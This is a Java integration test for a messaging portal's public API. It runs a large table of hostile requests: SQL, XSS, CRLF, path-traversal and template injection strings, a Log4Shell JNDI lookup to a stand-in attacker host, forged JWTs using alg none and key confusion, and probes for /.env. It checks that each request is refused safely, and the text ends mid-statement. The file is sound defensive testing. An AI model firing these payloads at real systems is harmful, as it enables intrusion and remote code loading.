package nl.knooppunt.portal.hostile;

import static nl.knooppunt.portal.hostile.HostileFakes.A;
import static nl.knooppunt.portal.hostile.HostileFakes.B;
import static nl.knooppunt.portal.hostile.HostileFakes.TO_A;
import static nl.knooppunt.portal.hostile.HostileFakes.TO_B;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Stream;

import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.admin.AdminClientConfig;
import org.apache.kafka.clients.admin.NewTopic;
import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.awaitility.Awaitility;
import org.eclipse.microprofile.config.ConfigProvider;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import nl.knooppunt.portal.problem.Echo;
import nl.knooppunt.standard.catalogue.Catalogue;
import nl.knooppunt.standard.kafka.Topics;
import nl.knooppunt.testsupport.HubSecretsTestResource;
import nl.knooppunt.testsupport.KafkaTestResource;

/**
 * The hostile-input table of issue 10: every row is one request against the public API with the status the API
 * documents for it. Every refusal must be an RFC 9457 problem (type, title, status) revealing no internals and no
 * value of the request, and a refused submission must leave {@code knooppunt.submissions} untouched.
 */
@QuarkusTest
@TestProfile(HostileProfile.class)
@QuarkusTestResource(KafkaTestResource.class)
@QuarkusTestResource(HubSecretsTestResource.class)
@QuarkusTestResource(io.quarkus.test.oidc.server.OidcWiremockTestResource.class)
class HostileInputTest {

    /** What a row expects besides its status. */
    enum Expect {
        /** problem+json, and nothing published to knooppunt.submissions */
        REFUSED,
        /** problem+json from validation's verdict (the submission had to be published to be judged) */
        JUDGED,
        /** accepted: 201 JSON; the Kafka record carries no request value in clear */
        ACCEPTED,
        /** a plain JSON answer */
        OK
    }

    /** One row of the table. */
    record Case(String category, String name, String method, String path, List<String[]> headers, byte[] body,
            String declaredLength, boolean chunked, int status, String problem, Expect expect, List<String> secrets,
            Runnable before) {

        Case status(int newStatus, String newProblem, Expect newExpect) {
            return new Case(category, name, method, path, headers, body, declaredLength, chunked, newStatus,
                    newProblem, newExpect, secrets, before);
        }

        Case expecting(Expect newExpect) {
            return status(status, problem, newExpect);
        }

        Case withSecrets(List<String> newSecrets) {
            return new Case(category, name, method, path, headers, body, declaredLength, chunked, status, problem,
                    expect, newSecrets, before);
        }

        Case withHeader(String[] header) {
            List<String[]> more = new ArrayList<>(headers);
            more.add(header);
            return new Case(category, name, method, path, more, body, declaredLength, chunked, status, problem,
                    expect, secrets, before);
        }

        Case before(Runnable step) {
            return new Case(category, name, method, path, headers, body, declaredLength, chunked, status, problem,
                    expect, secrets, step);
        }
    }

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> LEAKS = List.of("Exception", "\tat ", "at nl.", "at io.", "java.", "javax.",
            "nl.knooppunt.portal", "io.quarkus", "io.vertx", "io.smallrye", "jackson", "com.fasterxml", "org.",
            "Caused by", "SELECT ", "INSERT ", "UPDATE ", "DELETE FROM", "line: ", "column: ", "[Source");
    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1",
            "1; DROP TABLE mailbox_message;--",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "x\r\nSet-Cookie: knooppunt=1",
            "../../../etc/passwd",
            "..%2F..%2F..%2Fetc%2Fpasswd",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}${7*7}#{7*7}",
            "%s%s%s%n%x",
            "*)(uid=*))(|(uid=*",
            "{\"$gt\":\"\"}");

    private static FakeValidator validator;
    private static KafkaConsumer<byte[], byte[]> offsets;
    private static List<TopicPartition> partitions;

    @TestFactory
    Stream<DynamicTest> everyHostileRequestGetsItsDocumentedProblem() {
        start();
        List<Case> cases = new ArrayList<>();
        malformedJson(cases);
        wrongContentTypes(cases);
        oversizedBodies(cases);
        nestingAndArrays(cases);
        invalidUtf8(cases);
        unicode(cases);
        injections(cases);
        unknownFields(cases);
        attachments(cases);
        tokens(cases);
        otherParticipants(cases);
        idempotency(cases);
        routes(cases);
        batchPull(cases);
        Set<String> names = new HashSet<>();
        cases.forEach(c -> assertTrue(names.add(c.category() + ": " + c.name()), "duplicate case " + c.name()));
        assertTrue(cases.size() >= 150, "at least 150 cases, found " + cases.size());
        return cases.stream().map(c -> DynamicTest.dynamicTest(c.category() + ": " + c.name(), () -> run(c)));
    }

    // ---------------------------------------------------------------- the table

    private static void malformedJson(List<Case> cases) {
        List<String> bodies = List.of("{", "}", "{\"module\":", "{\"module\":\"x\",}", "{'module':'x'}",
                "{module:\"x\"}", "[1,2", "nul", "tru", "{\"module\":\"x\" \"type\":\"y\"}", "{\"payload\":{\"a\":1,}}",
                "{\"module\":\"\\x\"}", "{\"module\":\"abc", "{\"recipient\":01}", "NaN", "{\"module\":NaN}",
                "/* c */ {}", "{\"payload\":{\"a\":undefined}}", "{\"payload\":{\"a\":0x1F}}", "{\"module\":\"a\"\u0000}",
                "\u0000", "{\"payload\":[}", "{\"a\"::1}", "{\"module\":\"tab\there\"}");
        for (int i = 0; i < bodies.size(); i++) {
            cases.add(submit("malformed JSON", "body " + i + " " + printable(bodies.get(i)), client("client-a"),
                    "application/json", bodies.get(i).getBytes(StandardCharsets.UTF_8), 400, null));
        }
        for (String shape : List.of("", "   ", "null", "[]", "\"saldoverzoek\"", "123", "true", "[{}]")) {
            cases.add(submit("malformed JSON", "wrong shape '" + shape + "'", client("client-a"), "application/json",
                    shape.getBytes(StandardCharsets.UTF_8), 400, null));
        }
    }

    private static void wrongContentTypes(List<Case> cases) {
        byte[] body = valid().toString().getBytes(StandardCharsets.UTF_8);
        for (String type : List.of("text/plain", "application/xml", "text/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "application/octet-stream", "text/html", "image/png",
                "application/pdf", "application/problem+json", "application/vnd.api+json", "text/json",
                "application/json-patch+json", "application/javascript")) {
            cases.add(submit("content type", type, client("client-a"), type, body, 415, "unsupported-media-type"));
        }
        cases.add(submit("content type", "none", client("client-a"), null, body, 415, "unsupported-media-type"));
    }

    private static void oversizedBodies(List<Case> cases) {
        for (String declared : List.of("1048577", "5242880", "1073741824", "9223372036854775807")) {
            cases.add(new Case("body over the limit", "declared " + declared, "POST", "/api/v1/messages",
                    hs(auth(client("client-a")), ct("application/json")), new byte[0], declared, false, 413,
                    "body-too-large", Expect.REFUSED, List.of(), null));
        }
        byte[] big = padded(1_100_000);
        cases.add(new Case("body over the limit", "1.1 MB sent", "POST", "/api/v1/messages",
                hs(auth(client("client-a")), ct("application/json")), big, null, false, 413, "body-too-large",
                Expect.REFUSED, List.of(), null));
        cases.add(new Case("body over the limit", "1.1 MB chunked", "POST", "/api/v1/messages",
                hs(auth(client("client-a")), ct("application/json")), big, null, true, 413, "body-too-large",
                Expect.REFUSED, List.of(), null));
        cases.add(new Case("body over the limit", "1.1 MB without token", "POST", "/api/v1/messages",
                hs(ct("application/json")), big, null, false, 413, "body-too-large", Expect.REFUSED, List.of(),
                null));
        ObjectNode longText = valid();
        ((ObjectNode) longText.get("payload")).put("toelichting", "x".repeat(300_000));
        cases.add(submit("body over the limit", "payload over 256 KiB", client("client-a"), "application/json",
                bytes(longText), 413, "payload-too-large"));
    }

    private static void nestingAndArrays(List<Case> cases) {
        for (int depth : List.of(33, 100, 1_000, 20_000)) {
            cases.add(submit("nesting and arrays", "arrays nested " + depth, client("client-a"), "application/json",
                    ("{\"module\":\"schuldinventarisatie\",\"payload\":" + "[".repeat(depth) + "]".repeat(depth) + "}")
                            .getBytes(StandardCharsets.UTF_8), 400, "json-too-complex"));
            cases.add(submit("nesting and arrays", "objects nested " + depth, client("client-a"), "application/json",
                    ("{\"payload\":" + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth) + "}")
                            .getBytes(StandardCharsets.UTF_8), 400, "json-too-complex"));
        }
        cases.add(submit("nesting and arrays", "number of 100000 digits", client("client-a"), "application/json",
                ("{\"payload\":{\"n\":" + "9".repeat(100_000) + "}}").getBytes(StandardCharsets.UTF_8), 400,
                "json-too-complex"));
        cases.add(submit("nesting and arrays", "field name of 10000 characters", client("client-a"),
                "application/json", ("{\"payload\":{\"" + "k".repeat(10_000) + "\":1}}").getBytes(StandardCharsets.UTF_8),
                400, "json-too-complex"));
        ObjectNode manyRecipients = valid();
        manyRecipients.remove("recipient");
        ArrayNode list = manyRecipients.putArray("recipients");
        for (int i = 0; i < 101; i++) {
            list.add(UUID.randomUUID().toString());
        }
        cases.add(submit("nesting and arrays", "101 recipients", client("client-a"), "application/json",
                bytes(manyRecipients), 400, "bad-request"));
        for (int i = 0; i < 20_000; i++) {
            list.add(UUID.randomUUID().toString());
        }
        cases.add(submit("nesting and arrays", "20101 recipients", client("client-a"), "application/json",
                bytes(manyRecipients), 400, "bad-request"));
        ObjectNode duplicates = valid();
        duplicates.remove("recipient");
        duplicates.putArray("recipients").add(B).add(B);
        cases.add(submit("nesting and arrays", "duplicate recipients", client("client-a"), "application/json",
                bytes(duplicates), 400, "bad-request"));
        ObjectNode hugeArray = valid();
        ArrayNode numbers = ((ObjectNode) hugeArray.get("payload")).putArray("vorderingen");
        for (int i = 0; i < 150_000; i++) {
            numbers.add(i);
        }
        cases.add(submit("nesting and arrays", "payload array of 150000 numbers", client("client-a"),
                "application/json", bytes(hugeArray), 413, "payload-too-large"));
        StringBuilder manyKeys = new StringBuilder("{\"payload\":{");
        for (int i = 0; i < 60_000; i++) {
            manyKeys.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":1");
        }
        ObjectNode keys = valid();
        String withKeys = keys.toString().replace("\"payload\":{", manyKeys.substring(1) + ",");
        cases.add(submit("nesting and arrays", "payload with 60000 fields", client("client-a"), "application/json",
                withKeys.getBytes(StandardCharsets.UTF_8), 413, "payload-too-large"));
    }

    private static void invalidUtf8(List<Case> cases) {
        Map<String, byte[]> sequences = Map.of("C3 28", new byte[] { (byte) 0xC3, 0x28 }, "FF", new byte[] { (byte) 0xFF },
                "overlong C0 AF", new byte[] { (byte) 0xC0, (byte) 0xAF }, "truncated E2 82",
                new byte[] { (byte) 0xE2, (byte) 0x82 }, "F8 88 80 80 80",
                new byte[] { (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 }, "lone 80",
                new byte[] { (byte) 0x80 }, "FE FF", new byte[] { (byte) 0xFE, (byte) 0xFF });
        sequences.forEach((name, bad) -> {
            for (String field : List.of("module", "recipient")) {
                byte[] body = concat("{\"" + field + "\":\"ab", bad, "cd\",\"payload\":{}}");
                cases.add(submit("invalid UTF-8", name + " in " + field, client("client-a"), "application/json", body,
                        400, "malformed-json"));
            }
        });
        cases.add(submit("invalid UTF-8", "C3 28 in a field name", client("client-a"), "application/json",
                concat("{\"", new byte[] { (byte) 0xC3, 0x28 }, "\":1}"), 400, "malformed-json"));
        cases.add(submit("invalid UTF-8", "FF outside strings", client("client-a"), "application/json",
                concat("{", new byte[] { (byte) 0xFF }, "}"), 400, "malformed-json"));
        byte[] inPayload = concat(valid().toString().replace("\"payload\":{", "\"payload\":{\"toelichting\":\"x")
                .split("x", 2)[0] + "x", new byte[] { (byte) 0xC3, 0x28 },
                valid().toString().replace("\"payload\":{", "\"payload\":{\"toelichting\":\"x").split("x", 2)[1]
                        .replaceFirst("^", "\","));
        cases.add(submit("invalid UTF-8", "C3 28 in a payload value", client("client-a"), "application/json",
                inPayload, 400, "malformed-json"));
    }

    private static void unicode(List<Case> cases) {
        Map<String, String> modules = Map.of("right-to-left override", "schuld\u202Einventarisatie",
                "zero-width space", "schuld\u200Binventarisatie", "Cyrillic a", "schuldinvent\u0430risatie",
                "fullwidth", "\uFF53chuldinventarisatie", "emoji", "schuldinventarisatie\uD83D\uDCA3",
                "NUL", "schuldinventarisatie\u0000", "combining acute", "schuldinventarisatie\u0301",
                "BOM inside", "\uFEFFschuldinventarisatie", "line separator", "schuld\u2028inventarisatie",
                "upper case", "SCHULDINVENTARISATIE");
        modules.forEach((name, module) -> {
            ObjectNode body = valid();
            body.put("module", module);
            cases.add(submit("unicode", name + " in module", client("client-a"), "application/json", bytes(body),
                    422, "standard-violation").withSecrets(Echo.isPlain(module) ? List.of() : List.of(module)));
        });
        for (String recipient : List.of("\uFF16a1f0c43-2d2b-4c55-9a0e-3f1f7a0d2a01", B + "\u200B", "\u0000",
                B.replace('-', '\u2010'))) {
            ObjectNode body = valid();
            body.put("recipient", recipient);
            cases.add(submit("unicode", "recipient " + printable(recipient), client("client-a"), "application/json",
                    bytes(body), 400, "bad-request"));
        }
        ObjectNode lone = valid();
        String loneSurrogate = valid().toString().replace("\"payload\":{", "\"payload\":{\"toelichting\":\"\\uD800\",");
        cases.add(submit("unicode", "lone surrogate escape in free text", client("client-a"), "application/json",
                loneSurrogate.getBytes(StandardCharsets.UTF_8), 201, null).expecting(Expect.ACCEPTED));
        ((ObjectNode) lone.get("payload")).put("toelichting", "Zo\u0308e \uD83D\uDE00 \u202Eevil \u0000 \u00A0");
        cases.add(submit("unicode", "emoji, RTL, NUL and combining marks in free text", client("client-a"),
                "application/json", bytes(lone), 201, null).expecting(Expect.ACCEPTED));
    }

    private static void injections(List<Case> cases) {
        for (int i = 0; i < INJECTIONS.size(); i++) {
            String value = INJECTIONS.get(i);
            String n = "#" + i + " " + printable(value);
            String enc = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
            List<String> secret = List.of(value);
            for (String field : List.of("module", "type")) {
                ObjectNode body = valid();
                body.put(field, value);
                cases.add(submit("injection", n + " in " + field, client("client-a"), "application/json",
                        bytes(body), 422, "standard-violation").withSecrets(secret));
            }
            for (String field : List.of("recipient", "inReplyTo")) {
                ObjectNode body = valid();
                body.put(field, value);
                cases.add(submit("injection", n + " in " + field, client("client-a"), "application/json",
                        bytes(body), 400, "bad-request").withSecrets(secret));
            }
            ObjectNode many = valid();
            many.remove("recipient");
            many.putArray("recipients").add(B).add(value);
            cases.add(submit("injection", n + " in recipients", client("client-a"), "application/json", bytes(many),
                    400, "bad-request").withSecrets(secret));
            ObjectNode text = valid();
            ((ObjectNode) text.get("payload")).put("toelichting", value);
            cases.add(submit("injection", n + " in a payload text", client("client-a"), "application/json",
                    bytes(text), 201, null).expecting(Expect.ACCEPTED).withSecrets(secret));
            cases.add(new Case("injection", n + " in Knooppunt-Participant", "GET", "/api/v1/inbox",
                    hs(auth(client("client-a")), h("Knooppunt-Participant", value)), null, null, false, 403,
                    "forbidden", Expect.REFUSED, secret, null));
            cases.add(submit("injection", n + " in Idempotency-Key", client("client-a"), "application/json",
                    bytes(valid()), 201, null).expecting(Expect.ACCEPTED).withHeader(h("Idempotency-Key", value + i))
                    .withSecrets(secret));
            cases.add(get("injection", n + " as inbox id", "/api/v1/inbox/" + enc, client("client-b"), 404,
                    "not-found").withSecrets(secret));
            cases.add(new Case("injection", n + " as id to acknowledge", "POST", "/api/v1/inbox/" + enc + "/ack",
                    hs(auth(client("client-b"))), null, null, false, 404, "not-found", Expect.REFUSED, secret,
                    null));
            cases.add(get("injection", n + " as message id", "/api/v1/messages/" + enc, client("client-b"), 404,
                    "not-found").withSecrets(secret));
            cases.add(get("injection", n + " as module of the standard", "/api/v1/standard/" + enc + "/saldoverzoek",
                    null, 404, "not-found").withSecrets(secret));
            cases.add(get("injection", n + " as inbox cursor", "/api/v1/inbox?after=" + enc, client("client-b"), 400,
                    "bad-request").withSecrets(secret));
            cases.add(get("injection", n + " as inbox sender", "/api/v1/inbox?sender=" + enc, client("client-b"),
                    400, "bad-request").withSecrets(secret));
            cases.add(get("injection", n + " as events cursor", "/api/v1/events?after=" + enc, client("client-b"),
                    400, "bad-request").withSecrets(secret));
            cases.add(get("injection", n + " as inbox module filter", "/api/v1/inbox?module=" + enc,
                    client("client-b"), 200, null).expecting(Expect.OK).withSecrets(secret));
        }
        for (String path : List.of("/api/v1/inbox/../../../etc/passwd", "/api/v1/inbox/..%2F..%2F..%2Fetc%2Fpasswd",
                "/api/v1/inbox/%2e%2e%2f%2e%2e%2fq%2fhealth", "/api/v1/standard/..%2F..%2F..%2Fetc/passwd",
                "/api/v1/inbox/%00", "/api/v1/inbox/a%0d%0aSet-Cookie:%20x=1")) {
            cases.add(get("path traversal", path, path, client("client-b"), 404, "not-found"));
        }
        cases.add(new Case("header injection", "CR LF in Knooppunt-Participant", "GET", "/api/v1/inbox",
                hs(auth(client("client-a")), h("Knooppunt-Participant", A + "\r\nX-Injected: 1")), null, null,
                false, 200, null, Expect.OK, List.of(), null));
        cases.add(new Case("header injection", "CR LF in Idempotency-Key", "GET", "/api/v1/inbox",
                hs(auth(client("client-a")), h("Idempotency-Key", "k\r\nSet-Cookie: knooppunt=1")), null, null,
                false, 200, null, Expect.OK, List.of(), null));
    }

    private static void unknownFields(List<Case> cases) {
        for (String field : List.of("attachments", "sender", "conversationId", "status", "__proto__", "constructor",
                "Module", "payload ", "id", "messageId")) {
            ObjectNode body = valid();
            body.put(field, "x");
            cases.add(submit("unknown field", "top-level '" + field + "'", client("client-a"), "application/json",
                    bytes(body), 400, "unknown-field"));
        }
        ObjectNode nested = valid();
        ((ObjectNode) nested.get("payload")).put("onbekendVeld", "x");
        cases.add(submit("unknown field", "in the payload", client("client-a"), "application/json", bytes(nested),
                422, "standard-violation").expecting(Expect.JUDGED));
        ObjectNode client = valid();
        ((ObjectNode) client.get("payload").get("client")).put("wachtwoord", "geheim-waarde-123");
        cases.add(submit("unknown field", "in the payload's client", client("client-a"), "application/json",
                bytes(client), 422, "standard-violation").expecting(Expect.JUDGED)
                .withSecrets(List.of("geheim-waarde-123")));
    }

    private static void attachments(List<Case> cases) {
        String pdf = java.util.Base64.getEncoder().encodeToString("%PDF-1.7\n%hostile\n".getBytes(StandardCharsets.US_ASCII));
        String png = java.util.Base64.getEncoder().encodeToString(new byte[] { (byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10 });
        String html = java.util.Base64.getEncoder().encodeToString("<html><script>x</script></html>"
                .getBytes(StandardCharsets.US_ASCII));
        cases.add(attachment("PNG labelled application/pdf", "scan.pdf", "application/pdf", png, 422));
        cases.add(attachment("HTML labelled application/pdf", "brief.pdf", "application/pdf", html, 422));
        cases.add(attachment("not base64", "brief.pdf", "application/pdf", "!!! not base64 ###", 422));
        cases.add(attachment("PDF labelled text/html", "brief.pdf", "text/html", pdf, 422));
        cases.add(attachment("PDF named .exe", "brief.exe", "application/pdf", pdf, 422));
        cases.add(attachment("PDF named with a path", "../../etc/passwd.pdf", "application/pdf", pdf, 422));
        cases.add(attachment("empty content", "brief.pdf", "application/pdf", "", 422));
        String oversized = java.util.Base64.getEncoder().encodeToString(concat("%PDF-1.7\n", new byte[200_000], ""));
        cases.add(attachment("200 kB attachment: payload over 256 KiB", "groot.pdf", "application/pdf", oversized, 413)
                .status(413, "payload-too-large", Expect.REFUSED));
        cases.add(attachment("well-formed PDF", "beschikking.pdf", "application/pdf", pdf, 201)
                .status(201, null, Expect.ACCEPTED));
    }

    private static void tokens(List<Case> cases) {
        Instant now = Instant.now();
        Map<String, String> bad = new java.util.LinkedHashMap<>();
        bad.put("expired", Tokens.sign(Tokens.claims("client-a").issuedAt(now.minusSeconds(7200))
                .expiresAt(now.minusSeconds(3600))));
        bad.put("not yet valid", Tokens.sign(Tokens.claims("client-a").claim("nbf", now.plusSeconds(3600).getEpochSecond())));
        bad.put("wrong audience", Tokens.sign(Tokens.claims("client-a").audience("https://other.example.com")));
        bad.put("wrong issuer", Tokens.sign(Tokens.claims("client-a").issuer("https://attacker.example.com")));
        bad.put("alg none", Tokens.unsigned("none", "client-a", ""));
        bad.put("alg None", Tokens.unsigned("None", "client-a", ""));
        bad.put("alg NONE with a signature", Tokens.unsigned("NONE", "client-a", "c2lnbmF0dXJl"));
        bad.put("HS256 with the public key (PEM)", Tokens.hs256WithPublicKey("client-a", "pem"));
        bad.put("HS256 with the public key (DER)", Tokens.hs256WithPublicKey("client-a", "der"));
        bad.put("HS256 with the public key (JWK)", Tokens.hs256WithPublicKey("client-a", "jwk"));
        bad.put("unknown key, provider's kid", Tokens.signWithUnknownKey(Tokens.claims("client-a"), true));
        bad.put("unknown key, own kid", Tokens.signWithUnknownKey(Tokens.claims("client-a"), false));
        bad.put("payload changed after signing", Tokens.tampered("client-a", "client-b"));
        bad.put("signature stripped", Tokens.client("client-a").substring(0, Tokens.client("client-a").lastIndexOf('.') + 1));
        bad.put("garbage", "not-a-jwt");
        bad.put("two parts", "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0");
        for (Map.Entry<String, String> token : bad.entrySet()) {
            cases.add(get("token", token.getKey() + " on /me", "/api/v1/me", token.getValue(), 401, "unauthorized"));
            cases.add(get("token", token.getKey() + " on /inbox", "/api/v1/inbox", token.getValue(), 401,
                    "unauthorized"));
            cases.add(submit("token", token.getKey() + " on POST /messages", token.getValue(), "application/json",
                    bytes(valid()), 401, "unauthorized"));
        }
        cases.add(new Case("token", "Basic instead of Bearer", "GET", "/api/v1/inbox",
                hs(h("Authorization", "Basic Y2xpZW50LWE6c2VjcmV0")), null, null, false, 401, "unauthorized",
                Expect.REFUSED, List.of(), null));
        cases.add(new Case("token", "empty Bearer", "GET", "/api/v1/inbox", hs(h("Authorization", "Bearer ")),
                null, null, false, 401, "unauthorized", Expect.REFUSED, List.of(), null));
        cases.add(new Case("token", "token in the query string only", "GET", "/api/v1/inbox?access_token="
                + Tokens.client("client-a"), List.of(), null, null, false, 401, "unauthorized", Expect.REFUSED,
                List.of(), null));
    }

    private static void otherParticipants(List<Case> cases) {
        String b = client("client-b");
        cases.add(get("other participant", "B names A in Knooppunt-Participant on /me", "/api/v1/me", b, 403,
                "forbidden").withHeader(h("Knooppunt-Participant", A)));
        cases.add(get("other participant", "B names A in Knooppunt-Participant on /inbox", "/api/v1/inbox", b, 403,
                "forbidden").withHeader(h("Knooppunt-Participant", A)));
        cases.add(submit("other participant", "B sends as A", b, "application/json", bytes(valid()), 403,
                "forbidden").withHeader(h("Knooppunt-Participant", A)));
        cases.add(get("other participant", "vendor without Knooppunt-Participant", "/api/v1/inbox",
                client("vendor-ab"), 403, "forbidden"));
        cases.add(get("other participant", "suspended participant", "/api/v1/inbox", client("client-suspended"), 403,
                "forbidden"));
        cases.add(get("other participant", "client without mandate", "/api/v1/inbox", client("client-unknown"), 403,
                "forbidden"));
        cases.add(get("other participant", "portal user of an unknown organisation", "/api/v1/inbox",
                Tokens.portalUser("00000009999999999999"), 403, "forbidden"));
        cases.add(get("guessed id", "B fetches A's message", "/api/v1/inbox/" + TO_A, b, 404, "not-found"));
        cases.add(new Case("guessed id", "B acknowledges A's message", "POST", "/api/v1/inbox/" + TO_A + "/ack",
                hs(auth(b)), null, null, false, 404, "not-found", Expect.REFUSED, List.of(), null));
        cases.add(get("guessed id", "B reads the status of a message it received", "/api/v1/messages/" + TO_B, b,
                404, "not-found"));
        cases.add(get("guessed id", "A reads the status of a message it received", "/api/v1/messages/" + TO_A,
                client("client-a"), 404, "not-found"));
        cases.add(get("guessed id", "vendor acting for B fetches A's message", "/api/v1/inbox/" + TO_A,
                client("vendor-ab"), 404, "not-found").withHeader(h("Knooppunt-Participant", B)));
        cases.add(new Case("guessed id", "vendor acting for B acknowledges A's message", "POST",
                "/api/v1/inbox/" + TO_A + "/ack", hs(auth(client("vendor-ab")), h("Knooppunt-Participant", B)),
                null, null, false, 404, "not-found", Expect.REFUSED, List.of(), null));
        cases.add(get("guessed id", "portal user of B's organisation? no: of A, fetches B's message",
                "/api/v1/inbox/" + TO_B, Tokens.portalUser(HostileFakes.A_OIN), 404, "not-found"));
        for (int i = 0; i < 3; i++) {
            String random = UUID.randomUUID().toString();
            cases.add(get("guessed id", "random id " + i + " fetched", "/api/v1/inbox/" + random, b, 404, "not-found"));
            cases.add(new Case("guessed id", "random id " + i + " acknowledged", "POST", "/api/v1/inbox/" + random
                    + "/ack", hs(auth(b)), null, null, false, 404, "not-found", Expect.REFUSED, List.of(), null));
            cases.add(get("guessed id", "random id " + i + " status", "/api/v1/messages/" + random, b, 404,
                    "not-found"));
        }
        ObjectNode answerToA = answer(TO_A);
        cases.add(submit("guessed id", "B answers a message addressed to A", b, "application/json",
                bytes(answerToA), 422, "standard-violation").expecting(Expect.JUDGED));
        cases.add(submit("guessed id", "B answers a random message id", b, "application/json",
                bytes(answer(UUID.randomUUID().toString())), 422, "standard-violation").expecting(Expect.JUDGED));
        cases.add(new Case("guessed id", "control: A acknowledges its own message", "POST", "/api/v1/inbox/" + TO_A
                + "/ack", hs(auth(client("client-a"))), null, null, false, 204, null, Expect.OK, List.of(), null));
        cases.add(new Case("guessed id", "control: A acknowledges with an empty body labelled as a form", "POST",
                "/api/v1/inbox/" + TO_A + "/ack", hs(auth(client("client-a")),
                        h("Content-Type", "application/x-www-form-urlencoded; charset=ISO-8859-1")), null, "0", false,
                204, null, Expect.OK, List.of(), null));
        cases.add(submit("guessed id", "control: B answers the message addressed to it", b, "application/json",
                bytes(answer(TO_B)), 201, null).expecting(Expect.ACCEPTED));
    }

    private static void idempotency(List<Case> cases) {
        String key = "replay-" + UUID.randomUUID();
        ObjectNode first = valid();
        Runnable sendFirst = () -> {
            RawHttp.Response r = RawHttp.send(HostileProfile.PORT, "POST", "/api/v1/messages",
                    hs(auth(client("client-a")), ct("application/json"), h("Idempotency-Key", key)), bytes(first),
                    null, false);
            assertEquals(201, r.status(), r.body());
        };
        ObjectNode otherText = valid();
        ((ObjectNode) otherText.get("payload")).put("toelichting", "een andere tekst");
        ObjectNode otherRecipient = valid();
        otherRecipient.put("recipient", UUID.randomUUID().toString());
        ObjectNode otherType = valid();
        otherType.put("type", "betaalvoorstel");
        ObjectNode many = valid();
        many.remove("recipient");
        many.putArray("recipients").add(B);
        int n = 0;
        for (ObjectNode other : List.of(otherText, otherRecipient, otherType, many)) {
            cases.add(submit("idempotency", "same key, other body " + n++, client("client-a"), "application/json",
                    bytes(other), 409, "idempotency-key-reused").withHeader(h("Idempotency-Key", key))
                    .before(n == 1 ? sendFirst : null));
        }
        cases.add(submit("idempotency", "same key, same body: the first result again", client("client-a"),
                "application/json", bytes(first), 201, null).expecting(Expect.OK).withHeader(h("Idempotency-Key", key)));
        cases.add(submit("idempotency", "same key by another participant is its own key", client("client-b"),
                "application/json", bytes(answer(TO_B)), 201, null).expecting(Expect.ACCEPTED)
                .withHeader(h("Idempotency-Key", key)));
        cases.add(submit("idempotency", "key of 256 characters", client("client-a"), "application/json",
                bytes(valid()), 400, "bad-request").withHeader(h("Idempotency-Key", "k".repeat(256))));
        cases.add(submit("idempotency", "key of 255 characters", client("client-a"), "application/json",
                bytes(valid()), 201, null).withHeader(h("Idempotency-Key", "k".repeat(254) + "2")));
    }

    private static void routes(List<Case> cases) {
        String a = client("client-a");
        cases.add(new Case("routes", "DELETE /api/v1/messages", "DELETE", "/api/v1/messages", hs(auth(a)), null,
                null, false, 405, "method-not-allowed", Expect.REFUSED, List.of(), null));
        cases.add(new Case("routes", "PUT /api/v1/inbox", "PUT", "/api/v1/inbox", hs(auth(a),
                ct("application/json")), "{}".getBytes(StandardCharsets.UTF_8), null, false, 405,
                "method-not-allowed", Expect.REFUSED, List.of(), null));
        cases.add(new Case("routes", "PATCH a message", "PATCH", "/api/v1/messages/" + TO_A, hs(auth(a)), null,
                null, false, 405, "method-not-allowed", Expect.REFUSED, List.of(), null));
        for (String path : List.of("/api/v1/nope", "/api/v2/messages", "/nope", "/api/v1/inbox/" + TO_A + "/ack/x",
                "/api/v1/standard/a/b/c", "/WEB-INF/web.xml", "/.env", "/api/v1/messages/<script>")) {
            cases.add(get("routes", "GET " + path, path.replace("<script>", "%3Cscript%3E"), a, 404, "not-found"));
        }
        cases.add(get("routes", "Accept application/xml", "/api/v1/standard", null, 406, "not-acceptable")
                .withHeader(h("Accept", "application/xml")));
        cases.add(get("routes", "limit not a number", "/api/v1/inbox?limit=ten", a, 400, "bad-request"));
        cases.add(get("routes", "limit out of range", "/api/v1/inbox?limit=100000", a, 400, "bad-request"));
    }

    private static void batchPull(List<Case> cases) {
        String a = client("client-a");
        String b = client("client-b");
        String acks = "/api/v1/inbox/acknowledgements";
        cases.add(get("batch pull", "include=content", "/api/v1/inbox?include=content", a, 200, null));
        cases.add(get("batch pull", "include=payload", "/api/v1/inbox?include=payload", a, 400, "bad-request"));
        cases.add(get("batch pull", "include empty list", "/api/v1/inbox?include=,", a, 400, "bad-request"));
        cases.add(ack("control: A acknowledges its own message in bulk", a, "{\"ids\":[\"" + TO_A + "\"]}", 200,
                null));
        cases.add(ack("B acknowledges A's message in bulk: not found, not refused", b, "{\"ids\":[\"" + TO_A
                + "\",\"" + TO_B + "\"]}", 200, null));
        cases.add(ack("vendor acting for B acknowledges A's message in bulk", client("vendor-ab"),
